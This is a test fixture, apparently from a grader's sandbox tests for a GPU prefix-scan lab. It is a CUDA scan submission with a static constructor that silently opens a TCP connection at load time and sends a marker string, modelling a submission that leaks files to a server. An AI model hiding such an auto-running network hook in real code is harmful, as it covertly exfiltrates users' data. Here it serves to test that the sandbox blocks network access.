// Known-wrong submission (tests/grader, the jail): a correct Kogge-Stone whose static constructor
// opens a TCP connection to a listener on the loopback (tests/grader/jail_exploits.py runs one and
// passes its port) and sends what it has, as it could send a classmate's file to a server.
#include <arpa/inet.h>
#include <cstddef>
#include <cstdlib>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

#include "lab.h"

__attribute__((constructor)) static void phone_home() {
    const char* port = std::getenv("SCANLAB_TEST_PORT");
    if (port == nullptr) return;
    int s = socket(AF_INET, SOCK_STREAM, 0);
    if (s < 0) return;
    sockaddr_in to{};
    to.sin_family = AF_INET;
    to.sin_port = htons(static_cast<unsigned short>(std::atoi(port)));
    to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    if (connect(s, reinterpret_cast<sockaddr*>(&to), sizeof to) == 0) {
        const char message[] = "scanlab-jail-evidence-network\n";
        send(s, message, sizeof message - 1, 0);
    }
    close(s);
}

__global__ void kogge_stone_kernel(const float* input, float* output, unsigned n) {
    unsigned t = threadIdx.x;
    std::size_t i = std::size_t(blockIdx.x) * SECTION_SIZE + t;
    __shared__ float XY[SECTION_SIZE];
    XY[t] = (i < n) ? input[i] : 0.0f;
    for (unsigned stride = 1; stride < SECTION_SIZE; stride *= 2) {
        __syncthreads();
        float temp = 0.0f;
        if (t >= stride) temp = XY[t] + XY[t - stride];
        __syncthreads();
        if (t >= stride) XY[t] = temp;
    }
    if (i < n) output[i] = XY[t];
}

std::size_t scan_workspace_bytes(unsigned) { return 0; }

void scan(const float* input, float* output, unsigned n, void*) {
    if (n == 0) return;
    unsigned blocks = (n + SECTION_SIZE - 1) / SECTION_SIZE;
    kogge_stone_kernel<<<blocks, BLOCK_SIZE>>>(input, output, n);
}
